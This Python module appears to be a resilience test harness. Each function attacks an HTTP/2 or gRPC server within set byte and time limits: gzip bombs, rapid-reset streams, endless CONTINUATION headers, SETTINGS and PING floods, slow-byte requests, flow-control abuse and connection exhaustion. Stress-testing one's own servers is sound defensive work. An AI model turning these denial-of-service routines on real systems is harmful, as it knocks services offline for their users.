"""Attacks, each on the server at `address`, bounded in bytes and seconds."""

import struct
import time
import zlib

import raw_http2 as http2

MIB = 1 << 20


def declared_gigabyte(address):
    """A message that declares 1 GiB and sends as much of it as it may."""
    with http2.Connection(address) as client:
        client.frames(0.1)
        client.open(1)
        client.send_body(1, http2.message(b"", declared=1 << 30))
        zeros = bytes(MIB)
        sent = 0
        while sent < 1 << 30:
            more = client.send_body(1, zeros, wait=0.05)
            sent += more
            if more < len(zeros):
                break
        return sent


def gzip_bomb(address, stream=1):
    """522 KB of gzip that are 512 MiB, as far as they are taken; the frames that came back."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    body = http2.message(packer.compress(bytes(512 * MIB)) + packer.flush(), compressed=1)
    with http2.Connection(address) as client:
        client.frames(0.1)
        client.open(stream, extra=[("grpc-encoding", "gzip")])
        client.send_body(stream, body, end=True)
        client.frames(0.5)
        return client.seen


def rapid_resets(address, count=40_000):
    """Calls that are reset as soon as they are begun."""
    headers = http2.call_headers()
    with http2.Connection(address) as client:
        client.frames(0.1)
        for first in range(1, 2 * count, 200):
            batch = b"".join(
                http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
                + http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))
                for stream in range(first, first + 200, 2))
            if not client.send(batch):
                break
        end = time.monotonic() + 5
        while not client.closed and time.monotonic() < end:
            client.frames(0.3)
        return client.closed


def indexed_resets(address, path=http2.QUANTIZE, count=40_000):
    """The same in 28 bytes a call, and as one piece: headers by their index alone."""
    first, later = http2.indexed_headers(path)
    with http2.Connection(address) as client:
        client.frames(0.1)
        client.send(b"".join(
            http2.frame(http2.HEADERS, http2.END_HEADERS, stream, first if stream == 1 else later)
            + http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))
            for stream in range(1, 2 * count, 2)))
        end = time.monotonic() + 5
        while not client.closed and time.monotonic() < end:
            client.frames(0.3)
        return client.closed


def hpack_dribble(address, size=64 * MIB, piece=16384, seconds=10):
    """One header whose value never ends, in pieces; bytes sent."""
    with http2.Connection(address) as client:
        client.frames(0.1)
        begin = http2.call_headers() + b"\x00" + http2.string(b"x") + http2.integer(size, 7, 0)
        client.send(http2.frame(http2.HEADERS, 0, 1, begin))
        end = time.monotonic() + seconds
        sent = 0
        while sent < size and time.monotonic() < end:
            if not client.send(http2.frame(http2.CONTINUATION, 0, 1, bytes(piece))):
                break
            sent += piece
        return sent


def endless_headers(address, size=256 * MIB, seconds=10):
    """A block of headers without an end."""
    fields = b"".join(http2.header("k%04d" % i, "v" * 1000) for i in range(15))
    with http2.Connection(address) as client:
        client.frames(0.1)
        client.send(http2.frame(http2.HEADERS, 0, 1, http2.call_headers()))
        end = time.monotonic() + seconds
        sent = 0
        while sent < size and time.monotonic() < end:
            if not client.send(http2.frame(http2.CONTINUATION, 0, 1, fields)):
                break
            sent += len(fields)
        return sent


def frames(address, frame, count):
    """`count` times the same frame, on a connection with one open call."""
    with http2.Connection(address) as client:
        client.frames(0.1)
        client.open(1)
        for _ in range(count // 100):
            if not client.send(frame * 100):
                break
        client.frames(0.3)


def empty_frames(address):
    frames(address, http2.frame(http2.DATA, 0, 1), 10_000)


def settings_flood(address):
    frames(address, http2.frame(http2.SETTINGS, 0, 0), 40_000)


def ping_flood(address):
    frames(address, http2.frame(http2.PING, 0, 0, bytes(8)), 40_000)


def slow_header(address, seconds=3):
    """A greeting and headers, a byte at a time."""
    with http2.Connection(address) as client:
        client.frames(0.1)
        whole = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.call_headers())
        end = time.monotonic() + seconds
        for at in range(len(whole)):
            if time.monotonic() > end or not client.send(whole[at:at + 1]):
                break
            time.sleep(0.02)


def slow_bodies(address, calls=120, seconds=6):
    """Calls whose bodies come a byte at a time."""
    with http2.Connection(address) as client:
        client.frames(0.1)
        streams = range(1, 2 * calls, 2)
        for stream in streams:
            client.open(stream)
            client.send_body(stream, http2.message(b"", declared=MIB))
        end = time.monotonic() + seconds
        while time.monotonic() < end and not client.closed:
            for stream in streams:
                client.send_body(stream, b"x")
            time.sleep(0.05)


def never_reads(address, path, body, calls=100, seconds=2):
    """Calls with large replies, none of which is read. Bytes sent."""
    unlimited = struct.pack(">HI", 4, (1 << 31) - 1)
    with http2.Connection(address, settings=unlimited) as client:
        more = struct.pack(">I", (1 << 31) - 65536)
        client.send(http2.frame(http2.WINDOW_UPDATE, 0, 0, more))
        client.frames(0.1)
        sent = 0
        # From here on nothing is read, so no window is known to grow.
        for stream in range(1, 2 * calls, 2):
            if client.window < len(body) + 5:
                break
            client.open(stream, path)
            sent += client.send_body(stream, http2.message(body), end=True)
        time.sleep(seconds)
        return sent


def takes_no_replies(address, path, body, calls=32, seconds=2):
    """Calls with large replies, for none of which there is a window. Bytes sent."""
    with http2.Connection(address, settings=struct.pack(">HI", 4, 0)) as client:
        client.frames(0.1)
        sent = 0
        for stream in range(1, 2 * calls, 2):
            client.open(stream, path)
            sent += client.send_body(stream, http2.message(body), end=True)
        time.sleep(seconds)
        return sent


def connections(address, count, seconds=1):
    """Connections that say nothing; how many of them the server kept."""
    opened = []
    try:
        for _ in range(count):
            opened.append(http2.dial(address))
        time.sleep(seconds)
        return sum(not http2.is_closed(one) for one in opened)
    finally:
        for one in opened:
            one.close()


def partial_greetings(address, count):
    """Connections that send half a greeting and no more; the open sockets."""
    opened = [http2.dial(address) for _ in range(count)]
    for one in opened:
        one.sendall(http2.PREFACE[:12])
    return opened
